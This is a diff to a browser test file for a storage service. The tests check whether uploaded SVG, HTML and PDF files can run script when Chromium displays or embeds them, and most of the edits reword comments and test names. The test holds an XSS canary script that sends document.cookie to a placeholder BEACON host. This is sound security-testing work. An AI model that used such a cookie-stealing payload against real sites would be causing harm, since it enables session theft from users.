@@ -9,9 +9,9 @@ import { cleanUp, type Service, type Settings, startService, stopService, tested
 
 const executablePath = '/usr/bin/chromium';
 const installed = existsSync(executablePath);
-if (!installed) console.warn(`LEFT OUT: downloads in a browser, because ${executablePath} is not there.`);
+if (!installed) console.warn(`LEFT OUT: downloads in a browser, because ${executablePath} is not installed.`);
 
-/** What a script does that has run: it tells the page around it, marks its window, and calls home with the cookies. */
+/** What a script does if it runs: it tells the page around it, marks its window, and calls home with the cookies. */
 const script = `globalThis.ran = 1; try { top.postMessage('ran', '*') } catch {}
 try { opener.postMessage('ran', '*') } catch {}
 new Image().src = '//BEACON/ran?' + encodeURIComponent(document.cookie); fetch('//BEACON/ran', { mode: 'no-cors' });`;
@@ -30,7 +30,9 @@ const pdf = `%PDF-1.4
 trailer <</Root 1 0 R>>
 %%EOF`;
 
-/** What strangers may upload, and as what. `shown`: the type is safe, so that the bytes may be shown as it. */
+/**
+ * What strangers may upload, and as which type. `shown`: the type is safe, so the bytes may be displayed as that type.
+ */
 const hostile: { name: string; content: string; mimeType: string; shown?: true }[] = [
   { name: 'SVG', content: svg, mimeType: 'image/svg+xml' },
   { name: 'SVG', content: svg, mimeType: 'Image/SVG+XML;charset=utf-8' },
@@ -73,7 +75,7 @@ let projectId: string;
 const requestsToStore: { url: string; cookie: string | undefined }[] = [];
 const storeKeys = { accessKeyId: 'DOWNLOADS', secretAccessKey: 'a-secret-of-the-downloads' };
 
-/** Pages of somebody else on the service's host, which embed what they are told to; calls home are counted. */
+/** Someone else's pages on the service's host, which embed the given addresses; calls home are counted. */
 async function startSite() {
   const calls: string[] = [];
   const sent = new Map<string, { type: string; content: string }>();
@@ -120,11 +122,11 @@ async function urlOf(fileId: string, disposition: 'inline' | 'attachment'): Prom
   return ((await (await post(`/api/storage/files/${fileId}/url`, { disposition })).json()) as { url: string }).url;
 }
 
-/** Opens an address, waits until it is shown or saved, and gives scripts time to run. */
+/** Opens an address, waits until it is displayed or saved, and gives scripts time to run. */
 async function open(page: Page, url: string): Promise<'shown' | 'saved'> {
   const download = page.waitForEvent('download', { timeout: 60_000 }).then(() => 'saved' as const);
   download.catch(() => undefined);
-  // A navigation that turns into a download fails as a navigation, before the page is told of the download.
+  // A navigation that turns into a download fails as a navigation before the page hears of the download.
   const outcome = await page.goto(url, { waitUntil: 'load' }).then(
     () => 'shown' as const,
     (error: Error) => {
@@ -136,7 +138,7 @@ async function open(page: Page, url: string): Promise<'shown' | 'saved'> {
   return outcome;
 }
 
-/** Whether script has run in a page, in what it embeds, or anywhere that could call home. */
+/** Whether a script has run in a page, in anything it embeds, or anywhere that could call home. */
 async function hasRun(page: Page): Promise<boolean> {
   const marks = await Promise.all(
     page.frames().map((frame) => frame.evaluate(() => 'ran' in globalThis).catch(() => false)),
@@ -154,7 +156,7 @@ async function inNewPage<T>(work: (page: Page) => Promise<T>): Promise<T> {
   }
 }
 
-/** A page that has the addresses as frames, objects, plug-ins and pictures. */
+/** A page that embeds the addresses as frames, objects, plug-ins and pictures. */
 const toEmbedding = (...urls: string[]) =>
   `http://${site.host}/?${urls.map((url) => `url=${encodeURIComponent(url)}`).join('&')}`;
 
@@ -164,7 +166,7 @@ beforeAll(async () => {
   if (!installed) return;
   site = await startSite();
   settings = await testedSettings();
-  // People are on one host and the store is on another, as docs/operations.md asks for: cookies know no ports.
+  // The service is on one host and the store on another, as docs/operations.md recommends: cookies ignore ports.
   settings = {
     STORE_ACCESS_KEY_ID: storeKeys.accessKeyId,
     STORE_SECRET_ACCESS_KEY: storeKeys.secretAccessKey,
@@ -212,7 +214,7 @@ const suite = installed ? describe : describe.skip;
 const leftOut = installed ? '' : ' (LEFT OUT: Chromium is not installed)';
 
 suite(`downloads in Chromium${leftOut}`, () => {
-  test('the alarm works: served as they ask for, these scripts do run, and read the cookies that they can', async () => {
+  test('the test can fail: served as declared, these scripts do run, and read the cookies they can', async () => {
     await context.addCookies([{ name: 'canary', value: 'seen', domain: 'localhost', path: '/' }]);
     for (const [content, type] of [
       [html, 'text/html'],
@@ -258,7 +260,7 @@ suite(`downloads in Chromium${leftOut}`, () => {
   );
 
   test.skipIf(process.env.TEST_S3_ENDPOINT)(
-    'the embedded store runs nothing, even where an address was signed for a page',
+    'nothing from the embedded store runs, even if an address was signed for a page',
     async () => {
       const id = await upload('page.html', 'text/html', Buffer.from(withBeacon(html)));
       const { pathname, origin } = new URL(await urlOf(id, 'attachment'));
@@ -283,20 +285,20 @@ suite(`downloads in Chromium${leftOut}`, () => {
     },
   );
 
-  test('a picture is shown, opened, embedded and by its plain link', async () => {
+  test('a picture is displayed, opened, embedded and by its plain link', async () => {
     const id = await upload('写真.png', 'image/png', png);
     const url = await urlOf(id, 'inline');
     const link = `http://localhost:${settings.PORT}/api/storage/files/${id}/content?disposition=inline`;
     for (const address of [url, link, toEmbedding(url), toEmbedding(link)]) {
       await inNewPage(async (page) => {
         expect(await open(page, address)).toBe('shown');
-        // It is decoded after the page is there.
+        // It is decoded after the page has loaded.
         await expect.poll(() => page.evaluate('document.images[0]?.naturalHeight')).toBe(3);
       });
     }
   });
 
-  test('text is shown as UTF-8', async () => {
+  test('text is displayed as UTF-8', async () => {
     const url = await urlOf(await upload('a.txt', 'text/plain', Buffer.from('<b>Grüße</b> 写真 👍')), 'inline');
     await inNewPage(async (page) => {
       expect(await open(page, url)).toBe('shown');
@@ -327,13 +329,13 @@ suite(`downloads in Chromium${leftOut}`, () => {
       await inNewPage(async (page) => {
         const download = page.waitForEvent('download');
         await open(page, url);
-        // Chromium replaces what some systems' file names cannot hold.
+        // Chromium replaces characters that some systems' file names cannot hold.
         expect((await download).suggestedFilename()).toBe(name.replaceAll(/["*]/g, '_'));
       });
     }
   });
 
-  test('an archive is saved, opened or embedded, though the service itself serves it', async () => {
+  test('an archive is saved, opened or embedded, even from the origin of the service', async () => {
     const { url } = (await (await post('/api/storage/archives', { projectId, name: '写真' })).json()) as {
       url: string;
     };
@@ -355,7 +357,7 @@ suite(`downloads in Chromium${leftOut}`, () => {
   });
 });
 
-/** A WebM of the browser's own making. */
+/** A WebM recorded by the browser itself. */
 async function recordVideo(page: Page): Promise<Buffer> {
   await open(page, `http://${site.host}/`);
   const base64 = await page.evaluate<string>(`(async () => {
